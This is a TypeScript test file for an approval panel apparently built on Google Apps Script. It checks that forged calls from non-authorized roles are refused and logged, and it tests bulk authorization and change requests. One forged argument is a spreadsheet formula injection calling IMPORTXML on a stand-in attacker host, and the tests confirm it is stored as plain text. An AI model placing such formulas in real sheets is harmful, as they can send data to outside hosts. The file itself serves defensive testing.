// Forged google.script.run calls to the decision handlers: refused for anyone but the Titular whatever the arguments, nothing written, logged.
import { ASISTENTE, bitacora, DIRECCION, OTRO, PROPUESTA, TITULAR, verdict, withPublication, visto } from './auth-fixture';

const SHEETS = ['Calendario', 'Propuestas', 'Boletines CS01', 'Autorizaciones'];

describe('auth: forged calls', () => {
  const handlers: Array<[string, (id: string) => unknown[]]> = [
    ['panelAutorizar', (id) => [{ hoja: 'calendario', id }]],
    ['panelRechazar', (id) => [{ hoja: 'calendario', id }, 'no']],
    ['panelSolicitarCambios', (id) => [{ hoja: 'calendario', id }, 'cambie']],
    ['panelAutorizarVarios', (id) => [[{ hoja: 'calendario', id }]]],
    ['panelAutorizar', () => []],
    ['panelAutorizar', () => [null]],
    ['panelAutorizar', () => ['=IMPORTXML("https://evil.example","//a")']],
    ['panelAutorizarVarios', (id) => [[{ hoja: 'calendario', id, por: TITULAR, decision: 'Autorizado' }], 'extra', 42]],
  ];

  test.each([ASISTENTE, DIRECCION, OTRO])('%s is refused with NO_AUTORIZADO by every decision handler; nothing but the Bitácora changes', (who) => {
    const { emu, id } = withPublication();
    const before = SHEETS.map((s) => emu.values(s));
    const logBefore = bitacora(emu).length;
    const execLogs: string[] = [];
    for (const [fn, args] of handlers) {
      const r = emu.run(fn, args(id), { as: who });
      expect(r.error).toMatchObject({ code: 'NO_AUTORIZADO' });
      expect(r.error!.message).toBe('Solo la Titular del Instituto puede autorizar, rechazar o solicitar cambios.');
      execLogs.push(...r.logs);
    }
    expect(SHEETS.map((s) => emu.values(s))).toEqual(before);
    if (who === OTRO) {
      // Not a role user: the Bitácora is protected from her, so the trace is the execution log.
      expect(bitacora(emu).length).toBe(logBefore);
      expect(execLogs.filter((l) => l.includes('Intento de autorización rechazado'))).toHaveLength(handlers.length);
      return;
    }
    const log = bitacora(emu).slice(logBefore);
    expect(log).toHaveLength(handlers.length);
    expect(log.every((b) => b[2] === 'Intento de autorización rechazado')).toBe(true);
    expect(log[6][4]).toContain('=IMPORTXML'); // the forged argument is recorded as text…
    expect(emu.dump('Bitácora')?.formulas).toEqual({}); // …never as a formula
    expect(verdict(emu, id)).toMatchObject({ ok: false });
  });

  test('a Titular whose e-mail Apps Script hides (active user empty) is refused too', () => {
    const { emu, id } = withPublication();
    const r = emu.run('panelAutorizar', [visto(emu, 'calendario', id)], { as: TITULAR, activeUser: '' });
    expect(r.error).toMatchObject({ code: 'NO_AUTORIZADO' });
    expect(verdict(emu, id)).toMatchObject({ ok: false });
  });

  test('bulk authorization by the Titular records one signed record per item; an unknown ID in the selection writes nothing', () => {
    const { emu, id, propuesta } = withPublication();
    const id2 = (emu.call('panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-02', hora: '10:00', redes: ['X'], textoX: 'Segundo día', textoFacebook: '', textoWeb: '', imagen: '' }], { as: ASISTENTE }) as { id: string }).id;
    const before = SHEETS.map((s) => emu.values(s));
    const bad = emu.run('panelAutorizarVarios', [[visto(emu, 'calendario', id), { hoja: 'calendario', id: 'CAL-NO-EXISTE', huella: '0'.repeat(64) }]], { as: TITULAR });
    expect(bad.error).toMatchObject({ code: 'ELEMENTO_DESCONOCIDO' });
    expect(bad.error!.message).toMatch(/No existe la publicación «CAL-NO-EXISTE»/);
    expect(SHEETS.map((s) => emu.values(s))).toEqual(before);
    const r = emu.call('panelAutorizarVarios', [[visto(emu, 'calendario', id), visto(emu, 'calendario', id2)]], { as: TITULAR }) as { elementos: unknown[]; mensaje: string };
    expect(r.elementos).toHaveLength(2);
    expect(r.mensaje).toBe('Se autorizaron 2 elementos.');
    expect(verdict(emu, id)).toMatchObject({ ok: true });
    expect(verdict(emu, id2)).toMatchObject({ ok: true });
  });

  test('«Solicitar cambios» needs a comment; with one, the proposer sees it in «Mis propuestas»', () => {
    const { emu } = withPublication();
    const p = emu.call('panelCrearPropuesta', [{ ...PROPUESTA, tema: 'Otra campaña' }], { as: ASISTENTE }) as { id: string };
    const before = SHEETS.map((s) => emu.values(s));
    const r = emu.run('panelSolicitarCambios', [visto(emu, 'propuestas', p.id), '   '], { as: TITULAR });
    expect(r.error).toMatchObject({ code: 'COMENTARIO_REQUERIDO', message: 'Escriba un comentario que explique los cambios que solicita.' });
    expect(SHEETS.map((s) => emu.values(s))).toEqual(before);
    emu.call('panelSolicitarCambios', [visto(emu, 'propuestas', p.id), 'Agregue el teléfono 075.'], { as: TITULAR });
    const mias = emu.call('panelMisPropuestas', [], { as: ASISTENTE }) as Array<{ id: string; estado: string; comentario: string }>;
    expect(mias.find((m) => m.id === p.id)).toMatchObject({ estado: 'Cambios solicitados', comentario: 'Agregue el teléfono 075.' });
  });
});
